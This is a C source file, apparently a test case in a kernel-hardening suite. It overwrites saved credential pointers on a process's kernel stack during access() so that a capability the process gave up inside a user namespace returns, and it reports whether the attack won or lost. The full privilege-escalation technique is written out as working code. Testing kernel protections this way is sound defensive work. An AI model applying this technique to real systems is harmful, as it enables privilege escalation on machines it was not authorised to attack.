// SPDX-License-Identifier: GPL-2.0-only
/*
 * An attack on what a task goes back to. access() acts by other credentials for a
 * while, here by all capabilities of the attacker in a namespace of his own, of which
 * he has given one up. Whether it goes back to his own, a word on its stack says.
 */
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"
#include "list.h"
#include "objects.h"

#define STACK_WORDS	4096	/* at most */
#define SECONDS		10

/* Shared with who calls access(). */
static struct {
	volatile unsigned long calls;
	volatile bool ready, looked_at, found;
} *caller;

static bool give_one_up(void)
{
	struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2];

	if (syscall(SYS_capget, &header, data))
		return false;
	data[0].effective &= ~(1U << CAP_SYS_ADMIN);
	return !syscall(SYS_capset, &header, data);
}

static bool be_root_inside(void)
{
	char map[32];

	snprintf(map, sizeof(map), "0 %u 1\n", getuid());
	return !unshare(CLONE_NEWUSER) && !file_write("/proc/self/uid_map", map) && give_one_up();
}

static void call_for_ever(void)
{
	stay_on_cpu(1);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	caller->ready = be_root_inside() && unshare(CLONE_NEWUTS);
	wait_for_flag(&caller->looked_at);
	while (caller->ready && !caller->found) {
		faccessat(AT_FDCWD, "/proc/self/status", R_OK, 0);
		caller->found = !unshare(CLONE_NEWUTS);
		caller->calls++;
	}
	pause();
}

/* On the caller's CPU: that one is preempted, mostly in the middle of access(). */
static void be_in_its_way(void)
{
	stay_on_cpu(1);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	while (!caller->found)
		;
	_exit(0);
}

/*
 * Each word of its stack that has the credentials it goes back to, while it acts by
 * others: to none, so that it does not go back. Where credentials are sealed, to those
 * it acts by: it goes back to what it has.
 */
static int turn_words(const struct task *task)
{
	static uint64_t words[STACK_WORDS];
	uint64_t now = kread64(task->cred_slot), to = is_protected() ? now : 0;
	size_t i, size = task->stack_size / sizeof(*words);
	int turned = 0;

	if (now == task->cred || kread(task->stack, words, task->stack_size))
		return 0;
	for (i = 0; i < size; i++)
		if (words[i] == task->cred && kread64(task->cred_slot) == now)
			turned += !kwrite64(task->stack + i * sizeof(*words), to);
	return turned;
}

static int turn_for_ever(const struct task *task)
{
	uint64_t end = now_ms() + SECONDS * 1000;
	int turned = 0;

	while (!caller->found && now_ms() < end)
		turned += turn_words(task);
	return turned;
}

enum outcome endless_override(void)
{
	struct task task;
	int turned;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	caller = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	stay_on_cpu(0);
	pid = fork();
	if (!pid)
		call_for_ever();
	if (!wait_for_flag(&caller->ready) || ktask(pid, &task))
		return broken("nobody calls access() in a namespace");
	if (!fork())
		be_in_its_way();
	caller->looked_at = true;
	turned = turn_for_ever(&task);
	if (!caller->found)
		return lost("turned %d times in %lu calls, and a capability that was given up did not come back",
			    turned, caller->calls);
	return won("what access() goes back to turned on its stack: a capability that was given up came back, after %lu calls",
		   caller->calls);
}
